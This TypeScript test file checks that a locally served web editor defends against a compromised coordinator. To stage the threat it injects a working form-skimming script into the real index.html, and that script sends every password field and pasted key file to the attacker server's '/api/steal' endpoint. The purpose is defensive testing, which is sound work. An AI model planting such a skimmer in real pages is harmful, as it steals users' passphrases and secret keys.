import { promises as fs } from 'node:fs';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { join } from 'node:path';
import type { Browser, BrowserContext, Page } from 'playwright-core';
import { test } from 'uvu';
import * as assert from 'uvu/assert';
import { keyFileFromSigningKey } from '../../shared/crypto/keys.js';
import { readIntentEntries } from '../../shared/documents/desired.js';
import { desiredDocName } from '../../shared/documents/names.js';
import { connectDocument, waitForSync } from '../../shared/node/connect.js';
import { writeKeyFile } from '../../shared/node/key-file.js';
import { DEFAULT_WEB_APP_DIR } from '../../shared/node/web-app.js';
import { createWebForwarder } from '../../shared/node/web-forwarder.js';
import type { SignedIntent } from '../../shared/schemas/intent.js';
import type { Policy } from '../../shared/schemas/policy.js';
import { verifyIntentUnderPolicy } from '../../shared/trust/policy-intent.js';
import {
  collectPageErrors,
  deployFromPage,
  importKey,
  launchChromium,
  newLaptopContext,
  pageUrl,
  startOutpostWeb,
  unlock,
} from '../harness/browser.js';
import { basePolicy, makeTestOrg, pushPolicyAndEnroll } from '../harness/policy-fixtures.js';
import {
  type DaemonProcess,
  removeDirectory,
  startCoordinatorProcess,
  temporaryDirectory,
  waitFor,
} from '../harness/processes.js';

// Issue 14, the served-code threat (docs/web.md): the server that serves the web editor serves the
// code that reads the admin's passphrase and key. The attacker here is the coordinator's operator
// (a compromised coordinator host): in front of a real coordinator, a hostile HTTP server (the
// "coordinator" the admin knows by its URL) serves the real build with one script added that
// sends every password field and the pasted key file to itself, and passes everything else on.
// An admin opening the coordinator's page loses the passphrase and the secret key. The same admin
// running `outpost web --coordinator <that coordinator>` gets the page from their own installation:
// the key imports, unlocks, a deploy is signed and stored by the coordinator (through the
// forwarder), and the attacker receives nothing and never even serves its page.
const org = makeTestOrg();
const PASSPHRASE = 'pinned page passphrase 42';
const CLOSURE = `/nix/store/${'a'.repeat(32)}-nixos-system-pinned`;
const dir = temporaryDirectory('web-editor-pinned');
let coordinator: DaemonProcess & { url: string; port: number };
let policy: Policy;
let hostile: Server;
let hostileUrl: string;
const stolen: string[] = [];
const hostileServed: string[] = [];
let browser: Browser;
const contexts: BrowserContext[] = [];

// What the attacker adds: a same-origin script (so the page's CSP, which the attacker writes
// anyway, allows it) posting what the admin types or pastes into the key form.
const EXFILTRATE = `
document.addEventListener('input', (event) => {
  const field = event.target;
  if (!field || typeof field.value !== 'string') return;
  if (field.type === 'password' || field.tagName === 'TEXTAREA')
    fetch('/api/steal', { method: 'POST', body: field.value, keepalive: true });
}, true);
`;

async function startHostileCoordinator(upstream: string): Promise<void> {
  const index = await fs.readFile(join(DEFAULT_WEB_APP_DIR, 'index.html'), 'utf8');
  const tampered = index.replace('</head>', '<script src="/evil.js"></script></head>');
  assert.ok(tampered !== index, 'the build has a <head> to tamper with');
  const forwarder = createWebForwarder(upstream);
  hostile = createServer((req, res) => {
    const path = new URL(req.url ?? '/', 'http://x').pathname;
    hostileServed.push(path);
    if (path === '/' || path === '/index.html') {
      res.writeHead(200, { 'content-type': 'text/html; charset=utf-8', 'cache-control': 'no-cache' });
      return void res.end(tampered);
    }
    if (path === '/evil.js') {
      res.writeHead(200, { 'content-type': 'text/javascript' });
      return void res.end(EXFILTRATE);
    }
    if (path === '/api/steal') {
      let body = '';
      req.on('data', (chunk: Buffer) => {
        body += chunk.toString();
      });
      req.on('end', () => {
        stolen.push(body);
        res.writeHead(204).end();
      });
      return;
    }
    forwarder.forwardRequest(req, res);
  });
  hostile.on('upgrade', (req, socket, head) => forwarder.forwardUpgrade(req, socket, head));
  await new Promise<void>((resolve) => hostile.listen(0, '127.0.0.1', resolve));
  hostileUrl = `ws://127.0.0.1:${(hostile.address() as AddressInfo).port}`;
}

async function coordinatorIntents(hostId: string): Promise<SignedIntent[]> {
  const reader = connectDocument(coordinator.url, desiredDocName(hostId), { identity: org.alice });
  try {
    await waitForSync(reader, 10_000);
    return readIntentEntries(reader.doc).entries.map((e) => e.signed);
  } finally {
    reader.close();
  }
}

async function openPage(url: string): Promise<{ page: Page; errors: string[] }> {
  const context = await newLaptopContext(browser);
  contexts.push(context);
  const page = await context.newPage();
  const errors = collectPageErrors(page);
  await page.goto(url);
  return { page, errors };
}

test.before(async () => {
  await writeKeyFile(join(dir, 'timestamp.key'), org.timestamp);
  coordinator = await startCoordinatorProcess(join(dir, 'coordinator'), join(dir, 'coordinator.log'), 0, [
    '--org-root',
    org.root.publicKey,
    '--timestamp-key',
    join(dir, 'timestamp.key'),
    '--timestamp-interval',
    '1',
  ]);
  policy = basePolicy(org);
  await pushPolicyAndEnroll(coordinator.url, org, policy, ['h1']);
  await startHostileCoordinator(coordinator.url);
  browser = await launchChromium();
});

test.after(async () => {
  for (const context of contexts) await context.close().catch(() => {});
  await browser?.close();
  await new Promise((resolve) => hostile?.close(resolve));
  hostile?.closeAllConnections();
  await coordinator?.stop();
  if (!process.env.OUTPOST_KEEP_TEST_DIR) removeDirectory(dir);
});

test("the threat: the compromised coordinator's own page sends the passphrase and the secret key away", async () => {
  const { page } = await openPage(pageUrl(hostileUrl));
  await page.getByTestId('setup').waitFor();
  await importKey(page, JSON.stringify(keyFileFromSigningKey(org.alice)), PASSPHRASE, org.root.publicKey);
  // Each field typed is one POST on its own connection, so they may arrive in any order: wait for
  // all three (the key, the passphrase and its repeat), or one still in flight could be read as
  // missing here, or land in the next test's empty `stolen`.
  const secretKey = keyFileFromSigningKey(org.alice).secretKey;
  await waitFor(
    'the tampered page to exfiltrate the key and the passphrase twice',
    () => (stolen.some((s) => s.includes(secretKey)) && stolen.filter((s) => s === PASSPHRASE).length >= 2) || null,
    10_000,
  );
  assert.ok(
    stolen.some((s) => s.includes(secretKey)),
    'the secret key left the browser',
  );
});

test('outpost web: the page comes from this installation; import, unlock and deploy work and nothing leaks', async () => {
  stolen.length = 0;
  hostileServed.length = 0;
  const web = await startOutpostWeb([hostileUrl], join(dir, 'web-pinned.log'));
  try {
    assert.match(web.url, /^http:\/\/127\.0\.0\.1:\d+\/$/);
    const { page, errors } = await openPage(web.url);
    const failWith = (message: string) => `${message}\npage errors:\n${errors.join('\n') || '(none)'}`;
    await page.getByTestId('setup').waitFor();
    await importKey(page, JSON.stringify(keyFileFromSigningKey(org.alice)), PASSPHRASE, org.root.publicKey);
    await unlock(page, PASSPHRASE);
    await page.getByTestId('fleet-view').waitFor();
    await page.locator('[data-testid=connection][data-live=true]').waitFor({ timeout: 20_000 });
    await deployFromPage(page, { host: 'h1', closure: CLOSURE, generation: 1 }, failWith);
    // Delivered through the forwarder and the hostile front to the real coordinator, which stored
    // it; it verifies under the policy exactly as an agent checks it.
    const signed = await waitFor(
      'the intent on the coordinator',
      async () => (await coordinatorIntents('h1'))[0],
      20_000,
    );
    assert.is(signed!.intent.closure, CLOSURE);
    assert.equal(verifyIntentUnderPolicy(signed!, { host: 'h1', chain: [policy], now: Date.now() }).ok, true);
    // The attacker got nothing, and never served its page: only API paths and websockets reached it.
    assert.equal(stolen, [], 'nothing was exfiltrated');
    for (const path of ['/', '/index.html', '/evil.js', '/sw.js'])
      assert.not.ok(hostileServed.includes(path), `the coordinator served ${path} to the pinned page`);
    assert.ok(
      hostileServed.some((p) => p.startsWith('/api/') || p === '/auth/challenge'),
      'the API was forwarded',
    );
  } finally {
    await web.stop();
  }
});

test('outpost web with the coordinator unreachable: the page still loads, the API answers 502 naming it', async () => {
  const closed = createServer();
  await new Promise<void>((resolve) => closed.listen(0, '127.0.0.1', resolve));
  const port = (closed.address() as AddressInfo).port;
  await new Promise((resolve) => closed.close(resolve));
  const web = await startOutpostWeb([`ws://127.0.0.1:${port}`], join(dir, 'web-unreachable.log'));
  try {
    const page = await fetch(web.url);
    assert.is(page.status, 200);
    assert.match(await page.text(), /<div id="app">/);
    const api = await fetch(`${web.url}api/documents`);
    assert.is(api.status, 502);
    assert.match(
      ((await api.json()) as { error: string }).error,
      new RegExp(`127\\.0\\.0\\.1:${port} is not reachable`),
    );
    const other = await fetch(`${web.url}metrics`);
    assert.is(other.status, 404);
  } finally {
    await web.stop();
  }
});

test.run();
